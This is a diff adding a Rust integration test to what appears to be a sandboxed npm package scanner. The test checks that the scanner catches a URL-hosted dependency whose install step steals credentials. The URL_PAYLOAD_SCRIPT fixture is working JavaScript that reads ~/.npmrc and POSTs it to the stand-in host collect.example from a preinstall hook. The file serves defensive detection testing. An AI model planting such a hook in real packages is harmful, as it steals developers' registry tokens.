@@ -6,7 +6,7 @@
 
 use assert_cmd::Command;
 use dsca_test::{
-    PackageBuilder, TempHome, TestRegistry, network_tests_enabled, phase_records,
+    PackageBuilder, TempHome, TestFileHost, TestRegistry, network_tests_enabled, phase_records,
     sandbox_tests_enabled,
 };
 use serde_json::Value;
@@ -1680,4 +1680,113 @@ fn an_import_that_spins_forever_is_caught_and_the_later_passes_are_skipped() {
         "{:#}",
         waiting["dynamic"]["phases"]
     );
+}
+
+/// PhantomRaven's shape: the registry's tarball is clean and names a dependency by URL;
+/// the tarball there steals the npm token when installed.
+const URL_PAYLOAD_SCRIPT: &str = r#"const fs = require('fs');
+const os = require('os');
+let npmrc = '';
+try { npmrc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'); } catch (e) {}
+const req = require('https').request({ hostname: 'collect.example', path: '/t', method: 'POST' }, (res) => res.resume());
+req.on('error', () => {});
+req.end(npmrc);
+"#;
+
+#[test]
+fn a_url_dependency_is_fetched_on_the_host_and_its_install_judged() {
+    if !sandbox_tests_enabled("a_url_dependency_is_fetched_on_the_host_and_its_install_judged") {
+        return;
+    }
+    let files = TestFileHost::start();
+    files.serve(
+        "/npm/unused-imports.tgz",
+        PackageBuilder::new("unused-imports", "1.0.0")
+            .script("preinstall", "node index.js")
+            .file("index.js", URL_PAYLOAD_SCRIPT)
+            .build(),
+    );
+    files.serve(
+        "/npm/colour-names.tgz",
+        PackageBuilder::new("colour-names", "1.0.0")
+            .script("postinstall", "node build.js")
+            .file(
+                "build.js",
+                "require('fs').writeFileSync('names.json', '[]');\n",
+            )
+            .build(),
+    );
+    let registry = TestRegistry::start();
+    for (name, dependency) in [
+        ("eslint-plugin-tidy", "unused-imports"),
+        ("palette-kit", "colour-names"),
+    ] {
+        registry.publish(
+            PackageBuilder::new(name, "1.0.0")
+                .dependency(
+                    dependency,
+                    &format!("http://packages.example/npm/{dependency}.tgz"),
+                )
+                .file("index.js", "module.exports = {};\n")
+                .build(),
+        );
+    }
+    let connect_to = format!("packages.example:80:{}", files.addr());
+    let report = scan_dynamic(
+        &registry,
+        &["--connect-to", &connect_to],
+        "eslint-plugin-tidy@1.0.0",
+    );
+    let run = &report["dynamic"];
+    let requests = phase_records(run, "/http");
+    let fetched = requests
+        .iter()
+        .find(|r| r["url"] == "http://packages.example/npm/unused-imports.tgz")
+        .unwrap_or_else(|| panic!("npm did not ask for the URL dependency: {requests:#?}"));
+    assert_eq!(fetched["status"], 200, "{fetched:#}");
+    assert!(
+        fetched["fetched"]
+            .as_str()
+            .is_some_and(|note| note.starts_with("fetched on the host: HTTP 200")),
+        "{fetched:#}"
+    );
+    let exfiltrations = phase_records(run, "/honeytokens/exfiltrations");
+    assert!(!exfiltrations.is_empty(), "{run:#}");
+    assert_eq!(
+        report["verdict"]["level"],
+        "malicious",
+        "{:?}",
+        rule_ids(&report)
+    );
+    assert_eq!(files.requests(), ["/npm/unused-imports.tgz"]);
+
+    // An honest URL dependency installs and builds; it is not malicious.
+    let honest = scan_dynamic(
+        &registry,
+        &["--connect-to", &connect_to],
+        "palette-kit@1.0.0",
+    );
+    let processes = phase_records(&honest["dynamic"], "/commands");
+    assert!(
+        processes
+            .iter()
+            .any(|p| p.to_string().contains("node build.js")),
+        "the dependency's postinstall did not run: {processes:#?}"
+    );
+    assert_ne!(honest["verdict"]["level"], "malicious", "{honest:#}");
+
+    // Refused: npm gets the sink's answer and nothing is fetched.
+    let refused = scan_dynamic(
+        &registry,
+        &["--connect-to", &connect_to, "--no-url-dependencies"],
+        "eslint-plugin-tidy@1.0.0",
+    );
+    let requests = phase_records(&refused["dynamic"], "/http");
+    assert!(
+        requests
+            .iter()
+            .all(|r| r["fetched"].is_null() && r["status"] != 200 || r["registry"] == true),
+        "{requests:#?}"
+    );
+    assert_eq!(files.requests().len(), 2, "{:?}", files.requests());
 }
